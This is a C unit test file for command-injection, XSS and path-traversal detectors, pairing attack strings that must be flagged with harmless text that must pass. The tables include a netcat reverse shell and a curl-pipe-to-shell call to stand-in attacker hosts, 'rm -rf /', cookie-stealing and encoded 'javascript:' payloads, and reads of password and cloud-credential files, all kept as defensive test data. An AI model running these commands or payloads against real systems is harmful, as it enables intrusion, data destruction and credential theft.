/* The event detectors: what each must flag and what ordinary text (prose
 * with semicolons, ampersands, angle brackets, dotted paths) must pass. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "detect.h"
#include "unit.h"

struct dcase {
	const char *in;
	bool flag;
};

typedef bool (*detector)(const char *, size_t, struct detect_hit *);

static void run_table(detector d, const struct dcase *t, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct detect_hit h = { 0 };
		bool got = d(t[i].in, strlen(t[i].in), &h);
		CHECK_MSG(got == t[i].flag, t[i].in);
		if (got)
			CHECK_MSG(h.reason != NULL && h.offset < strlen(t[i].in), t[i].in);
	}
}

UNIT_SUITE(detect_cmdi_table)
{
	static const struct dcase t[] = {
		{ "127.0.0.1; cat /etc/passwd", true },
		{ "x | nc attacker.example 4444 -e /bin/sh", true },
		{ "a && curl http://evil.example/x.sh | sh", true },
		{ "$(whoami)", true },
		{ "`id`", true },
		{ "name;id", true },
		{ "file.txt\nrm -rf /", true },
		{ "1 || ping -c 3 10.0.0.1", true },
		{ "x;/bin/bash -i", true },
		{ "x;${IFS}cat${IFS}/etc/passwd", true },
		{ "x;cat$IFS/etc/passwd", true },
		{ "x;cat$IFS", true },
		{ "price; cat$IFSX is a variable", false },
		{ "x; sleep 5", true },
		{ "foo|base64 -d", true },
		{ "Tom & Jerry; cat videos are popular", false },
		{ "Rock & roll; id est, the best", false },
		{ "price: $5 (five dollars)", false },
		{ "Terms; conditions & more", false },
		{ "ls", false },
		{ "https://example.com/?a=1&b=2", false },
		{ "I like cats | dogs", false },
		{ "", false },
	};
	run_table(detect_cmdi, t, sizeof t / sizeof t[0]);
	/* NUL is no shell operator: strchr() found the one ending its own
	 * list, so "cat" before a NUL looked like a command with arguments.
	 * A command line does end at NUL, though, for system() and execve(). */
	struct detect_hit h;
	CHECK(!detect_cmdi("Tom & Jerry; cat\0videos", sizeof "Tom & Jerry; cat\0videos" - 1, &h));
	CHECK(!detect_cmdi("a; cats\0", sizeof "a; cats\0" - 1, &h));
	CHECK(detect_cmdi("x; id\0", sizeof "x; id\0" - 1, &h));
}

UNIT_SUITE(detect_xss_table)
{
	static const struct dcase t[] = {
		{ "<script>alert(1)</script>", true },
		{ "<ScRiPt src=//evil.example/x.js>", true },
		{ "<img src=x onerror=alert(1)>", true },
		{ "<svg/onload=alert(1)>", true },
		{ "<body onload = \"steal()\">", true },
		{ "<a href=\"javascript:alert(document.cookie)\">x</a>", true },
		{ "javascript:alert(1)", true },
		{ "<iframe src=\"data:text/html,<b>\">", true },
		{ "<div style=\"x\" onmouseover='go()'>", true },
		{ "a < b and c > d", false },
		{ "<b>bold</b> and <i>italic</i>", false },
		{ "if (x<y) { return; }", false },
		{ "the onion = vegetable", false },
		{ "email me: <joe@example.com>", false },
		{ "<p class=\"one\">online</p>", false },
		/* a scheme spelled with character references or split by tabs
		 * and line breaks, which a browser decodes and drops */
		{ "<a href=\"javascript&colon;alert(1)\">x</a>", true },
		{ "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", true },
		{ "<a href=\"java\tscript:alert(1)\">x</a>", true },
		{ "<a "
		  "href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"
		  "\">",
		  true },
		{ "<a href=javascript&#0000058alert(1)>", true },
		{ "<a href=\"&#x6A;avascript:alert(1)\">", true },
		{ "java\nscript:alert(1)", true },
		{ "data&colon;text/html,<b>x", true },
		{ "Tom &amp; Jerry: the movie", false },
		{ "R&D: notes\ttab\nline", false },
		{ "myjavascript&colon;thing", false },
		{ "AT&T: JavaScript is great", false },
	};
	run_table(detect_xss, t, sizeof t / sizeof t[0]);
}

UNIT_SUITE(detect_path_traversal_table)
{
	static const struct dcase t[] = {
		{ "../../../../etc/passwd", true },
		{ "..\\..\\windows\\win.ini", true },
		{ "file=../../secret", true },
		{ "../.aws/credentials", true },
		{ "/etc/shadow", true },
		{ "name=/proc/self/environ", true },
		{ "\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc", true },
		{ "images/../../../", true },
		{ "see ../docs/readme.md", false },
		{ "version 1.2.3..4", false },
		{ "wait... what?", false },
		{ "/home/user/project/file.txt", false },
		{ "etc/passwords are weak", false },
		{ "the path ./build/out", false },
	};
	run_table(detect_path_traversal, t, sizeof t / sizeof t[0]);
	struct detect_hit h;
	CHECK(detect_path_traversal("a.txt\0.jpg", 10, &h)); /* NUL truncation */
}

UNIT_SUITE(detect_url_decode_cases)
{
	char out[64];
	size_t n = detect_url_decode("a%20b+c%2e%2E%2f%zz%4", 21, out, true);
	CHECK(n == 13 && memcmp(out, "a b c../%zz%4", 13) == 0);
	n = detect_url_decode("a+b", 3, out, false);
	CHECK(n == 3 && memcmp(out, "a+b", 3) == 0);
}

static double ms_since(const struct timespec *t0)
{
	struct timespec t1;

	clock_gettime(CLOCK_MONOTONIC, &t1);
	return (double)(t1.tv_sec - t0->tv_sec) * 1e3 + (double)(t1.tv_nsec - t0->tv_nsec) / 1e6;
}

/* Each detector reads the whole value: an attack behind 300 KB of
 * padding (they stopped at 256 KB) is found. */
UNIT_SUITE(detect_past_padding)
{
	static const struct {
		detector d;
		const char *tail;
	} t[] = {
		{ detect_cmdi, " x; cat /etc/passwd" },
		{ detect_xss, " <script>alert(1)</script>" },
		{ detect_path_traversal, " ../../../etc/passwd" },
	};
	size_t pad = 300u << 10;
	char *buf = malloc(pad + 64);
	struct detect_hit h;

	if (!buf) {
		CHECK(buf != NULL);
		return;
	}
	memset(buf, 'a', pad);
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
		size_t n = strlen(t[i].tail);
		memcpy(buf + pad, t[i].tail, n);
		CHECK_MSG(t[i].d(buf, pad + n, &h) && h.offset >= pad, t[i].tail);
		CHECK_MSG(!t[i].d(buf, pad, &h), t[i].tail);
	}
	free(buf);
}

/* Hostile values stay linear: 4 MiB of each unit, every detector, well
 * under the bound a quadratic scan blows through (200,000 '&' took cmdi
 * twelve seconds when each '&' crossed the run after it again). */
UNIT_SUITE(detect_hostile)
{
	static const char *const units[] = {
		"|",    "&",     "|&", "; ",         ";",   "$(",  "`",       "<",
		"<a ",  "<a on", ":",  "javascript", ".",   "../", "/",       "..",
		"\xc0", " ",     "\t", "&#",         "&#1", "&#x", "&colon;", "java\tscript&colon;",
		"\n"
	};
	static const detector dets[] = { detect_cmdi, detect_xss, detect_path_traversal };
	size_t len = 4u << 20;
	char *buf = malloc(len);
	char d[128];
	struct detect_hit h;

	if (!buf) {
		CHECK(buf != NULL);
		return;
	}
	for (size_t u = 0; u < sizeof units / sizeof units[0]; u++) {
		size_t ul = strlen(units[u]);
		for (size_t i = 0; i < len; i++)
			buf[i] = units[u][i % ul];
		for (size_t k = 0; k < sizeof dets / sizeof dets[0]; k++) {
			struct timespec t0;
			clock_gettime(CLOCK_MONOTONIC, &t0);
			(void)dets[k](buf, len, &h);
			double ms = ms_since(&t0);
			snprintf(d, sizeof d, "'%s' x 4 MiB, detector %zu: %.0f ms", units[u], k,
				 ms);
			CHECK_MSG(ms < 2000, d);
		}
	}
	free(buf);
}
